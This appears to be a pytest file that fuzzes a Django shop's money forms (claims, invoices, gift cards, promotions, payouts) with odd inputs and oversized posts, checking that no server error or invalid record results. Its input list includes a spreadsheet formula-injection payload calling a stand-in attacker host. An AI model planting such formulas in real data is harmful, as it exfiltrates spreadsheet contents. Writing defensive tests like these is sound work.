"""Odd contents in the forms around money: claims, invoices, letters, cards, promotions, points, payouts."""

import pytest
from django.urls import reverse

from orders.models import FaultClaim, Invoice, OrderMessage, Promotion, Shipment
from payments.invariants import all_offences
from payments.models import GiftCard, Payment, Payout
from tests.attack.test_odd_forms import ODD, sent
from tests.builders.aftercare import FAULT
from tests.builders.cases import DELIVERED, OPENED
from tests.builders.invoices import an_asked_invoice, due_paper
from tests.builders.orders import an_order
from tests.builders.people import a_buyer, a_member
from tests.builders.shops import a_listing

pytestmark = pytest.mark.django_db
# Beside those of every form: days at both ends of the calendar, a formula, letters that nobody sees.
WORDS = [
    *ODD,
    "9999-12-31",
    "0001-01-01",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "\u200b\u2060\ufeff\u3164",
    "0.001",
    "0x10",
    "－１２",
]


@pytest.fixture
def people(platform_at):
    platform_at(OPENED)
    buyer = a_buyer()
    kettle = a_listing(category="electronics", stock=5)
    order = an_order(listing=kettle, delivered_at=DELIVERED, subject_id=buyer.subject_id)
    unsent = an_order(listing=kettle, subject_id=buyer.subject_id)
    member = a_member(order.merchant)
    for person in (buyer, member):
        person.client.raise_request_exception = False
    return buyer, member, order, unsent


def test_of_a_buyer(people):
    buyer, _, order, _ = people
    number, line = order.number, order.lines.get().pk
    claim = {"quantity": "1", "remedy": "exchange", "fault": FAULT}
    title = {"kind": "company", "title": "上海漕溪茶业有限公司", "tax_number": "91310000MA1FL00001"}
    forms = {
        reverse("orders:claims", args=[number, line]): (claim, [*claim, "repeats"]),
        reverse("orders:invoice", args=[number]): (title, [*title, "keep"]),
        reverse("orders:messages", args=[number]): ({}, ["text"]),
        reverse("payments:card-claim"): ({}, ["code"]),
        reverse("payments:card-buy"): ({"kind": "bearer", "value": "100"}, ["kind", "value"]),
        reverse("orders:invoice-titles"): (title, list(title)),
    }
    tell(buyer.client, forms)
    assert FaultClaim.objects.filter(quantity__gt=1).count() == 0
    assert all(0 < card.value_minor < 10**7 for card in GiftCard.objects.all())
    assert all("\x00" not in message.text for message in OrderMessage.objects.all())
    assert Invoice.objects.count() <= 1 and all_offences() == []


def test_of_a_shop(people):
    _, member, order, unsent = people
    an_asked_invoice(order, at=OPENED)
    slug, paper = order.merchant.slug, due_paper(order)
    offer = {"kind": "coupon", "name_zh_hans": "满减", "threshold": "100", "off": "10"}
    offer |= {"starts_on": "2026-12-01", "ends_on": "2026-12-31", "pieces": "3", "each": "1"}
    gift = {**offer, "kind": "gift", "gift_sku": "A", "gift_pieces": "1", "gift_value": "1", "with_sku": "B"}
    share = {**offer, "off": "", "percent": "12.5", "most": "5"}
    issued = {"number": "2" * 20, "amount": "39.00"}
    account = {"channel": "bank", "holder": order.merchant.legal_name, "bank": "示例银行", "number": "6222"}
    promotions = reverse("orders:merchant-promotions", args=[slug])
    forms = {
        promotions: (offer, list(offer)),
        f"{promotions}?gift": (gift, ["gift_sku", "gift_pieces", "gift_value", "with_sku"]),
        f"{promotions}?share": (share, ["percent", "most", "categories"]),
        reverse("orders:merchant-invoice", args=[slug, paper.pk]): (issued, list(issued)),
        reverse("orders:merchant-invoice-refusal", args=[slug, paper.pk]): ({}, ["reason"]),
        reverse("orders:merchant-messages", args=[slug, order.number]): ({}, ["text"]),
        reverse("orders:merchant-shipments", args=[slug]): ({"step": "send"}, ["rows"]),
        reverse("orders:merchant-codes", args=[slug]): ({}, ["code", "point"]),
        reverse("payments:merchant-payout", args=[slug]): ({}, ["currency"]),
        reverse("payments:merchant-account", args=[slug]): (account, list(account)),
    }
    tell(member.client, forms)
    assert Promotion.objects.filter(ends_at__year__gt=2999).count() == 0
    assert Promotion.objects.filter(off_minor__lte=0).count() == 0
    assert not Shipment.objects.filter(order=unsent).exists() and not Payout.objects.exists()
    assert Payment.objects.count() == 2 and all_offences() == []


@pytest.mark.parametrize("length", [2_700_000, 10_000_000])
def test_posts_of_many_megabytes_are_refused_before_they_are_read(people, length):
    buyer, member, order, _ = people
    body = b"text=" + b"a" * length
    slug = order.merchant.slug
    for person, url in (
        (buyer, reverse("orders:messages", args=[order.number])),
        (buyer, reverse("orders:claims", args=[order.number, order.lines.get().pk])),
        (member, reverse("orders:merchant-shipments", args=[slug])),
        (member, reverse("orders:merchant-promotions", args=[slug])),
    ):
        answer = person.client.post(url, body, content_type="application/x-www-form-urlencoded")
        assert answer.status_code in (400, 413), (url, answer.status_code)
    assert not FaultClaim.objects.exists() and not OrderMessage.objects.exists()


def tell(client, forms):
    """Every field of every form holds every word once, beside others as they should be."""
    cases = [(url, others, field) for url, (others, fields) in forms.items() for field in fields]
    for number, (url, others, field) in enumerate(cases):
        for word, text in enumerate(WORDS):
            key = {"idempotency_key": f"odd-{number:04d}-{word:04d}"}
            status = sent(client, url, field, text, {**others, **key})
            assert status < 500, (url, field, text[:40], status)
